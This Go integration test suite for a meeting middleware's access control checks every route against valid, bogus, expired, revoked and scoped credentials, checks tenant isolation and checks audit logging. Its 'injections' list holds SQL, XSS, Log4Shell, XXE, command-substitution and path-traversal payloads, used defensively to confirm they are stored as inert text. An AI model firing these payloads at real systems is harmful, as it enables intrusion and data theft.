package standalone_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"go.uber.org/fx"
	"go.uber.org/fx/fxtest"

	"github.com/meet-middleware/meet-middleware/pkg/access"
	"github.com/meet-middleware/meet-middleware/pkg/config"
	"github.com/meet-middleware/meet-middleware/services/gateway"
	"github.com/meet-middleware/meet-middleware/services/standalone"
)

const adminPassword = "a long word of passage"

// guarded is the product where nobody gets in without a credential, and what its callers have.
type guarded struct {
	product
	routes []gateway.Route
	db     *pgx.Conn
	keys   map[string]string // by name
	names  map[string]string // their prefixes
}

// guard runs the product with an admin, and signs him in to make the first key.
func guard(t *testing.T, environ ...string) *guarded {
	t.Helper()
	dir := t.TempDir()
	settings, err := config.Load[standalone.Settings](append([]string{
		"MEET_ADDR=127.0.0.1:0", "MEET_OPS_ADDR=127.0.0.1:0", "MEET_NATS_ADDR=127.0.0.1:0", "MEET_EMULATOR_ADDR=127.0.0.1:0", "MEET_DATA_DIR=" + dir, "LOG_LEVEL=error",
		"MEET_AUTH=keys", "MEET_ADMIN_USERNAME=root", "MEET_ADMIN_EMAIL=root@clinic.example", "MEET_ADMIN_PASSWORD=" + adminPassword,
	}, environ...))
	if err != nil {
		t.Fatal(err)
	}
	settings.Stdout = io.Discard
	var port *gateway.Port
	app := fxtest.New(t, standalone.Program(settings), fx.NopLogger, fx.StartTimeout(patience), fx.Populate(&port))
	app.RequireStart()
	t.Cleanup(app.RequireStop)
	g := &guarded{product: product{t: t}, routes: port.Routes, keys: map[string]string{}, names: map[string]string{}}
	raw, err := os.ReadFile(filepath.Join(dir, "addresses.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(raw, &g.Addresses); err != nil {
		t.Fatal(err)
	}
	if g.db, err = pgx.Connect(t.Context(), g.Postgres); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = g.db.Close(t.Context()) }) // the server goes right after
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	browser := &http.Client{Jar: jar}
	g.as(browser, "auth/login/", map[string]any{"username": "root", "password": adminPassword})
	made := g.as(browser, "api-keys/", map[string]any{"name": "admin", "role": "admin"})
	g.keys["admin"], g.names["admin"] = made["secret"].(string), made["prefix"].(string)
	return g
}

// as posts as a browser.
func (g *guarded) as(browser *http.Client, path string, body map[string]any) map[string]any {
	g.t.Helper()
	raw, err := json.Marshal(body)
	if err != nil {
		g.t.Fatal(err)
	}
	resp, err := browser.Post(g.HTTP+"/api/v1/"+path, "application/json", bytes.NewReader(raw))
	if err != nil {
		g.t.Fatal(err)
	}
	defer resp.Body.Close()
	var answer map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&answer); err != nil || resp.StatusCode >= 300 {
		g.t.Fatalf("%s: %d %v %v", path, resp.StatusCode, answer, err)
	}
	return answer
}

// with sends a request with a key.
func (g *guarded) with(key, method, path, body string) reply {
	g.t.Helper()
	return g.send(method, path, body, "Authorization", "Bearer "+g.keys[key])
}

func (g *guarded) key(name string, body map[string]any) {
	g.t.Helper()
	body["name"] = name
	raw, err := json.Marshal(body)
	if err != nil {
		g.t.Fatal(err)
	}
	r := g.with("admin", "POST", "api-keys/", string(raw))
	if r.status != http.StatusCreated {
		g.t.Fatalf("key %s: %d %s", name, r.status, r.body)
	}
	g.keys[name], g.names[name] = g.field(r, "secret"), g.field(r, "prefix")
}

func (g *guarded) exec(sql string, args ...any) {
	g.t.Helper()
	if _, err := g.db.Exec(g.t.Context(), sql, args...); err != nil {
		g.t.Fatal(err)
	}
}

// theirs is what belongs to another, and what names it.
type theirs struct {
	meeting, uid, operation, job, recording, participant, user, key string
	marks                                                           []string
}

func (g *guarded) settle() (own string, other theirs) {
	g.t.Helper()
	create := func(organizer, guest, reference string) reply {
		r := g.with("admin", "POST", "meetings/", fmt.Sprintf(`{"organizer_email":%q,"invited_emails":[%q],"external_reference":%q,"scheduled_start":"2027-01-01T10:00:00Z"}`, organizer, guest, reference))
		if r.status != http.StatusCreated {
			g.t.Fatalf("%d %s", r.status, r.body)
		}
		return r
	}
	mine := create("anna@clinic.example", "p1@mail.example", "of-anna")
	r := create("bert@clinic.example", "secret.guest@mail.example", "secret-reference-of-bert")
	other = theirs{meeting: g.field(r, "id"), uid: g.field(r, "uid"), user: g.field(r, "organizer"), marks: []string{"bert@", "secret.guest@", "secret-reference", "secret-drive-file"}}
	other.marks = append(other.marks, other.uid, g.field(r, "google_event_id"))
	var participant, recording int64
	if err := g.db.QueryRow(g.t.Context(), `SELECT id FROM participants WHERE meeting_id = $1 ORDER BY id DESC LIMIT 1`, other.meeting).Scan(&participant); err != nil {
		g.t.Fatal(err)
	}
	if err := g.db.QueryRow(g.t.Context(), `INSERT INTO recordings (meeting_id, drive_file_id, state, created_at) VALUES ($1, 'secret-drive-file', 'file_generated', now()) RETURNING id`, other.meeting).Scan(&recording); err != nil {
		g.t.Fatal(err)
	}
	if err := g.db.QueryRow(g.t.Context(), `SELECT id::text FROM jobs WHERE meeting_id = $1 LIMIT 1`, other.meeting).Scan(&other.job); err != nil {
		g.t.Fatal(err)
	}
	if err := g.db.QueryRow(g.t.Context(), `SELECT id::text FROM commands WHERE meeting_id = $1 AND kind = 'meeting.create'`, other.meeting).Scan(&other.operation); err != nil {
		g.t.Fatal(err)
	}
	other.participant, other.recording = fmt.Sprint(participant), fmt.Sprint(recording)
	annas := g.field(mine, "organizer")
	g.key("service", map[string]any{"role": "service"})
	g.key("external", map[string]any{"role": "external", "user": json.Number(annas)})
	g.key("expired", map[string]any{"role": "admin"})
	g.exec(`UPDATE api_keys SET expires_at = created_at WHERE prefix = $1`, g.names["expired"])
	g.key("revoked", map[string]any{"role": "admin"})
	if r := g.with("admin", "DELETE", "api-keys/"+g.names["revoked"]+"/", ""); r.status != http.StatusOK {
		g.t.Fatalf("%d %s", r.status, r.body)
	}
	for _, s := range access.Scopes() {
		g.key("only "+string(s.Scope), map[string]any{"role": "admin", "scopes": []string{string(s.Scope)}})
	}
	g.key("spare", map[string]any{})
	other.key = g.names["spare"]
	return g.field(mine, "id"), other
}

// bodies is what each route that changes something is sent, by its method and path. A new one without a row fails the test.
func bodies(o theirs) map[string]string {
	const meetings, users, one = "/api/v1/meetings/", "/api/v1/user-management/", "/api/v1/meetings/{id}/"
	user := `{"username":"carl","email":"carl@clinic.example","password":"Straße-42-blau","password_confirm":"Straße-42-blau"}`
	passwords := `{"old_password":"x","new_password":"Straße-42-blau","new_password_confirm":"Straße-42-blau"}`
	return map[string]string{
		"POST " + meetings: `{"organizer_email":"bert@clinic.example","invited_emails":["q@mail.example"]}`, "PATCH " + one: `{"summary":"theirs"}`, "DELETE " + one: "",
		"POST " + one + "provision/": "", "POST " + one + "participants/": `{"email":"q@mail.example"}`, "DELETE " + one + "participants/{participant}/": "",
		"POST " + one + "legal_hold/": `{"reason":"a court"}`, "DELETE " + one + "legal_hold/": "", "POST " + one + "sync_recording/": "",
		"POST /api/v1/recordings/sync_all/": `{"limit":1}`, "POST /api/v1/recordings/{id}/verify/": "", "POST /api/v1/recordings/{id}/share/": `{"emails":["q@mail.example"]}`,
		"POST " + users: user, "PUT " + users + "{id}/": `{"email":"bert@clinic.example"}`, "PATCH " + users + "{id}/": `{"first_name":"B"}`, "DELETE " + users + "{id}/": "",
		"POST " + users + "{id}/activate/": "", "POST " + users + "{id}/change_password/": passwords, "POST " + users + "change-password/": passwords,
		"POST /api/v1/api-keys/": `{"name":"another"}`, "POST /api/v1/api-keys/{id}/rotate/": "", "DELETE /api/v1/api-keys/{id}/": "",
		"POST /api/v1/auth/login/": `{"username":"root","password":"wrong"}`, "POST /api/v1/auth/logout/": "",
		"POST /api/v1/setup/first-admin/": strings.Replace(user, "{", `{"token":"x",`, 1),
		"POST /api/v1/privacy/export/":    `{"email":"bert@clinic.example"}`, "POST /api/v1/privacy/erase/": `{"email":"bert@clinic.example"}`,

		"POST /meet.v1.MeetingService/CreateMeeting": `{"organizerEmail":"bert@clinic.example","invitedEmails":["q@mail.example"]}`, "POST /meet.v1.MeetingService/GetMeeting": `{"id":"` + o.meeting + `"}`,
		"POST /meet.v1.MeetingService/LookupMeeting": `{"externalReference":"secret-reference-of-bert"}`, "POST /meet.v1.MeetingService/ListMeetings": `{}`,
		"POST /meet.v1.MeetingService/UpdateMeeting": `{"id":"` + o.meeting + `","meeting":{"summary":"x"}}`, "POST /meet.v1.MeetingService/CancelMeeting": `{"id":"` + o.meeting + `"}`,
		"POST /meet.v1.MeetingService/ProvisionMeeting": `{"id":"` + o.meeting + `"}`, "POST /meet.v1.MeetingService/GetOperation": `{"id":"` + o.operation + `"}`,
		"POST /meet.v1.RecordingService/ListRecordings": `{}`, "POST /meet.v1.RecordingService/GetRecording": `{"id":"` + o.recording + `"}`, "POST /meet.v1.RecordingService/GetCoverage": `{}`,
		"POST /meet.v1.RecordingService/SyncRecording": `{"meetingId":"` + o.meeting + `"}`, "POST /meet.v1.RecordingService/SyncAllRecordings": `{}`,
		"POST /meet.v1.RecordingService/VerifyRecording": `{"id":"` + o.recording + `"}`, "POST /meet.v1.RecordingService/ShareRecording": `{"id":"` + o.recording + `","emails":["q@mail.example"]}`,
		"POST /meet.v1.RecordingService/SetLegalHold": `{"meetingId":"` + o.meeting + `"}`, "POST /meet.v1.RecordingService/GetAttendance": `{"meetingId":"` + o.meeting + `"}`,
		"POST /meet.v1.RecordingService/GetTranscript": `{"meetingId":"` + o.meeting + `"}`,
		"POST /meet.v1.JobService/GetJob":              `{"id":"` + o.job + `"}`, "POST /meet.v1.JobService/ListJobs": `{}`,
		"POST /meet.v1.UserService/GetUser": `{"id":"` + o.user + `"}`, "POST /meet.v1.UserService/ListUsers": `{}`, "POST /meet.v1.UserService/GetUserStats": `{}`,
		"POST /meet.v1.SetupService/Diagnose":   `{}`,
		"POST /meet.v1.AccessService/CreateKey": `{"name":"another"}`, "POST /meet.v1.AccessService/GetKey": `{"key":"` + o.key + `"}`, "POST /meet.v1.AccessService/ListKeys": `{}`,
		"POST /meet.v1.AccessService/RotateKey": `{"key":"` + o.key + `"}`, "POST /meet.v1.AccessService/RevokeKey": `{"key":"` + o.key + `"}`,
		"POST /meet.v1.AuditService/ListAudit": `{}`, "POST /meet.v1.AuditService/VerifyAudit": `{}`,
		"POST /meet.v1.PrivacyService/ExportPerson": `{"email":"bert@clinic.example"}`, "POST /meet.v1.PrivacyService/ErasePerson": `{"email":"bert@clinic.example"}`,
	}
}

// forPeople are the pages, files and callbacks, which ask for no credential. A new one without a row fails the test.
var forPeople = map[string]string{
	"GET /admin/": "", "GET /login/": "", "POST /login/": "username=root&password=wrong", "POST /logout/": "", "GET /first-admin/": "", "POST /first-admin/": "token=x",
	"GET /static/site.css": "", "POST /api/v1/google/calendar/": "",
	"GET /api/v1/docs/swagger-ui.css": "", "GET /api/v1/docs/swagger-ui-bundle.js": "", "GET /api/v1/docs/favicon-32x32.png": "", "GET /api/v1/docs/start.js": "",
	"GET /api/v1/redoc/redoc.standalone.js": "", "GET /api/v1/redoc/redoc.css": "", "GET /api/v1/redoc/start.js": "",
}

// asked is one request of the matrix.
type asked struct {
	gateway.Route
	target, body, media string
}

func rows(t *testing.T, routes []gateway.Route, o theirs) []asked {
	t.Helper()
	sent := bodies(o)
	var all []asked
	for _, r := range routes {
		name := r.Method + " " + r.Path
		out := asked{Route: r, media: "application/json"}
		switch {
		case r.Page:
			body, there := forPeople[name]
			if !there {
				t.Errorf("%s has no row among the pages: who may see it?", name)
				continue
			}
			out.body, out.media = body, "application/x-www-form-urlencoded"
		case r.Method != http.MethodGet:
			body, there := sent[name]
			if !there {
				t.Errorf("%s has no row: what is sent to it?", name)
				continue
			}
			out.body = body
		}
		id := map[string]string{"meetings": o.meeting, "operations": o.operation, "jobs": o.job, "recordings": o.recording, "participants": o.participant, "users": o.user, "user-management": o.user, "api-keys": o.key}
		segment, _, _ := strings.Cut(strings.TrimPrefix(r.Path, "/api/v1/"), "/")
		out.target = strings.NewReplacer("{id}", id[segment], "{participant}", o.participant).Replace(r.Path)
		if strings.Contains(out.target, "{") {
			t.Errorf("%s: what stands for its parameter?", name)
			continue
		}
		all = append(all, out)
	}
	return all
}

func (g *guarded) call(r asked, headers ...string) (int, http.Header, string) {
	g.t.Helper()
	req, err := http.NewRequestWithContext(g.t.Context(), r.Method, g.HTTP+r.target, strings.NewReader(r.body))
	if err != nil {
		g.t.Fatal(err)
	}
	if r.Method != http.MethodGet {
		req.Header.Set("Content-Type", r.media)
	}
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	client := http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := client.Do(req)
	if err != nil {
		g.t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		g.t.Fatal(err)
	}
	return resp.StatusCode, resp.Header, string(body)
}

// reach is how far a role gets with a route: the least of its actions.
func (r asked) reach(role access.Role) access.Reach {
	if r.Admin && role != access.Admin {
		return access.None
	}
	least := access.All
	for _, action := range r.Actions {
		rule, _ := access.RuleOf(action)
		least = min(least, rule.Reach(role))
	}
	return least
}

// asksNobody: what must be known whatever is shown.
func (r asked) asksNobody() bool {
	return r.Path == "/api/v1/health/" || r.Path == "/api/v1/google/calendar/"
}

func TestEveryRouteIsAnsweredToEachCredentialByTheTable(t *testing.T) {
	g := guard(t, "MEET_RATE_LIMIT_ANONYMOUS=100000", "MEET_RATE_LIMIT_ANONYMOUS_BURST=100000")
	_, other := g.settle()
	table := rows(t, g.routes, other)
	if len(table) < 80 {
		t.Fatalf("only %d routes", len(table))
	}
	refused := 0
	clean := func(t *testing.T, header http.Header, body string) {
		t.Helper()
		var all bytes.Buffer
		_ = header.Write(&all) // a buffer takes everything
		for _, mark := range other.marks {
			if strings.Contains(all.String()+body, mark) {
				t.Errorf("shows %q of another: %.300s", mark, body)
			}
		}
		if header.Get("Server") != "" || header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(header.Get("Content-Security-Policy"), "frame-ancestors 'none'") {
			t.Errorf("headers %v", header)
		}
	}
	type credential struct {
		name    string
		headers []string
		// want is the status for who is not let in; 0: the role decides.
		want int
		role access.Role
	}
	bearer := func(key string) []string { return []string{"Authorization", "Bearer " + g.keys[key]} }
	revoked := g.keys["revoked"]
	denied := []credential{
		{"nothing", nil, 401, ""},
		{"garbage", []string{"Authorization", "Bearer garbage"}, 401, ""},
		{"another scheme", []string{"Authorization", "Basic cm9vdDpyb290"}, 401, ""},
		{"a key that nobody made", []string{"X-API-Key", "mm_live_" + strings.Repeat("x", 58)}, 401, ""},
		{"an expired key", bearer("expired"), 401, ""},
		{"a revoked key", []string{"X-API-Key", revoked}, 401, ""},
		{"two credentials", append(bearer("admin"), "X-API-Key", g.keys["service"]), 401, ""},
		{"a session that nobody opened", []string{"Cookie", "meet_session=" + strings.Repeat("x", 43)}, 401, ""},
	}
	for _, r := range table {
		t.Run(r.Method+" "+r.Path, func(t *testing.T) {
			for _, c := range denied {
				status, header, body := g.call(r, c.headers...)
				clean(t, header, body)
				shown := c.name != "nothing" && c.name != "a session that nobody opened"
				if r.asksNobody() || r.Anyone && !shown {
					// Open to all; a refusal is about what was sent.
					if r.Method == http.MethodGet && status >= 400 {
						t.Errorf("%s: %d %.200s", c.name, status, body)
					}
					continue
				}
				refused++
				if status != c.want || header.Get("WWW-Authenticate") == "" {
					t.Errorf("%s: %d, want %d: %.200s", c.name, status, c.want, body)
				}
			}
			if r.Anyone {
				return
			}
			for _, s := range access.Scopes() { // each scope alone, for an admin
				var needs []string
				for _, action := range r.Actions {
					rule, _ := access.RuleOf(action)
					needs = append(needs, string(rule.Scope))
				}
				if slices.Contains(needs, string(s.Scope)) || len(needs) == 0 {
					continue
				}
				status, header, body := g.call(r, bearer("only "+string(s.Scope))...)
				clean(t, header, body)
				refused++
				if status != http.StatusForbidden {
					t.Errorf("only %s: %d, want 403: %.200s", s.Scope, status, body)
				}
			}
			status, header, body := g.call(r, bearer("external")...)
			clean(t, header, body)
			switch reach := r.reach(access.External); {
			case reach == access.None:
				refused++
				if status != http.StatusForbidden {
					t.Errorf("external: %d, want 403: %.200s", status, body)
				}
			case reach == access.Own && (strings.Contains(r.Path, "{id}") || r.RPC && regexp.MustCompile(`"(?:id|meetingId)":`).MatchString(r.body)):
				if status != http.StatusNotFound {
					t.Errorf("external, of another's: %d, want 404: %.200s", status, body)
				}
			case slices.Contains(r.Actions, "meeting.create"):
				refused++
				if status != http.StatusForbidden {
					t.Errorf("external, for another: %d, want 403: %.200s", status, body)
				}
			case status == 401 || status == 403:
				t.Errorf("external: %d %.200s", status, body)
			}
		})
	}
	// What others may do for real, the dearest last: it is another's no longer then.
	for _, c := range []struct {
		key  string
		role access.Role
	}{{"service", access.Service}, {"admin", access.Admin}} {
		for _, r := range table {
			t.Run(c.key+" "+r.Method+" "+r.Path, func(t *testing.T) {
				if r.Anyone {
					return
				}
				status, _, body := g.call(r, bearer(c.key)...)
				switch {
				case r.reach(c.role) == access.None:
					refused++
					if status != http.StatusForbidden {
						t.Errorf("%d, want 403: %.200s", status, body)
					}
				case status == 401 && (r.Path == "/api/v1/users/me/" || r.Path == "/api/v1/user-management/change-password/"):
					// No user is behind this key.
				case status == 401 || status == 403 || status >= 500:
					t.Errorf("%d %.200s", status, body)
				}
			})
		}
	}

	t.Log("all of it is in the audit log, whose chain holds")
	deadline := time.Now().Add(patience)
	for {
		found := 0
		for line := range strings.Lines(g.with("admin", "GET", "audit/?format=jsonl&outcome=denied", "").body) {
			var e struct{ Count int }
			if err := json.Unmarshal([]byte(line), &e); err != nil {
				t.Fatal(err)
			}
			found += e.Count
		}
		if found >= refused {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d of %d refusals are in the audit log", found, refused)
		}
		runtime.Gosched()
	}
	if r := g.with("admin", "GET", "audit/verify/", ""); r.status != 200 || g.field(r, "bad_sequence") != "<nil>" || g.field(r, "done") != "true" {
		t.Errorf("%d %s", r.status, r.body)
	}
}

func TestWhatIsAnothersIsAnsweredAsWhatIsNotThere(t *testing.T) {
	g := guard(t)
	own, other := g.settle()
	for _, c := range []struct{ theirs, none string }{
		{"meetings/" + other.meeting, "meetings/999999"},
		{"meetings/" + other.uid, "meetings/01936f5e-7c00-7000-8000-00000000000c"},
		{"meetings/" + other.meeting + "/participants", "meetings/999999/participants"},
		{"recordings/" + other.recording, "recordings/999999"},
		{"participants/" + other.participant, "participants/999999"},
		{"users/" + other.user, "users/999999"},
		{"operations/" + other.operation, "operations/01936f5e-7c00-7000-8000-00000000000c"},
		{"jobs/" + other.job, "jobs/01936f5e-7c00-7000-8000-00000000000c"},
	} {
		theirs, none := g.with("external", "GET", c.theirs+"/", ""), g.with("external", "GET", c.none+"/", "")
		if theirs.status != http.StatusNotFound || theirs.body != none.body || theirs.status != none.status {
			t.Errorf("%s: %d %s, and of what is not there %d %s", c.theirs, theirs.status, theirs.body, none.status, none.body)
		}
		for _, h := range []http.Header{theirs.header, none.header} {
			for _, name := range []string{"Date", "X-Request-Id", "Ratelimit"} {
				h.Del(name)
			}
		}
		if !maps.EqualFunc(theirs.header, none.header, slices.Equal[[]string]) {
			t.Errorf("%s: headers %v and %v", c.theirs, theirs.header, none.header)
		}
	}
	if r := g.with("external", "GET", "meetings/"+own+"/", ""); r.status != http.StatusOK {
		t.Errorf("his own: %d %s", r.status, r.body)
	}
	if r := g.with("external", "GET", "meetings/", ""); r.status != http.StatusOK || strings.Count(r.body, `"id":`) != 1 {
		t.Errorf("his own: %d %s", r.status, r.body)
	}
	if r := g.with("external", "GET", "users/me/", ""); r.status != http.StatusOK || !strings.Contains(r.body, `"email":"anna@clinic.example"`) {
		t.Errorf("himself: %d %s", r.status, r.body)
	}
}

// injections are what has broken other programs.
var injections = []string{
	`'; DROP TABLE meetings; --`, `" OR "1"="1`, `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `{{7*7}}`, `${jndi:ldap://x/a}`, `%00`, `../../etc/passwd`,
	`$(touch /tmp/x)`, "`id`", `\u0027`, `a\nBcc: x@y.z`, `%s%n%x`, `=cmd|'/C calc'!A0`, "\u202eevil", `{"$gt":""}`, `*)(uid=*`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`, `a'||pg_sleep(3)||'`,
}

func TestWhatIsWrittenComesBackAsText(t *testing.T) {
	g := guard(t)
	for _, s := range injections {
		quoted, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		text := string(quoted)
		r := g.with("admin", "POST", "meetings/", `{"organizer_email":"doctor@clinic.example","invited_emails":["p@mail.example"],"external_reference":`+text+`,"summary":`+text+`,"description":`+text+`}`)
		if r.status != http.StatusCreated || g.field(r, "external_reference") != strings.TrimSpace(s) {
			t.Errorf("meeting %q: %d %.300s", s, r.status, r.body)
			continue
		}
		list := g.with("admin", "GET", "meetings/?external_reference="+url.QueryEscape(s), "")
		if list.status != http.StatusOK || !strings.Contains(list.body, `"id":`+g.field(r, "id")+`,`) {
			t.Errorf("found by %q: %d %.300s", s, list.status, list.body)
		}
		if r := g.with("admin", "POST", "api-keys/", `{"name":`+text+`}`); r.status != http.StatusCreated || g.field(r, "name") != s {
			t.Errorf("key %q: %d %.300s", s, r.status, r.body)
		}
		for _, path := range []string{"users/?email=", "users/?username=", "audit/?principal=", "audit/?action=", "jobs/?class="} {
			if path == "jobs/?class=" && len(s) > 64 { // longer than any name of a class
				continue
			}
			if r := g.with("admin", "GET", path+url.QueryEscape(s), ""); r.status != http.StatusOK || r.body != "[]" {
				t.Errorf("%s%s: %d %.300s", path, s, r.status, r.body)
			}
		}
		form := url.Values{"username": {s}, "password": {s}}
		resp, err := http.PostForm(g.HTTP+"/login/", form)
		if err != nil {
			t.Fatal(err)
		}
		page, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil || resp.StatusCode != http.StatusUnauthorized && resp.StatusCode != http.StatusTooManyRequests || bytes.Contains(page, []byte("<script")) || bytes.Contains(page, []byte("<img")) {
			t.Errorf("sign-in as %q: %d %s %v", s, resp.StatusCode, page, err)
		}
	}
}
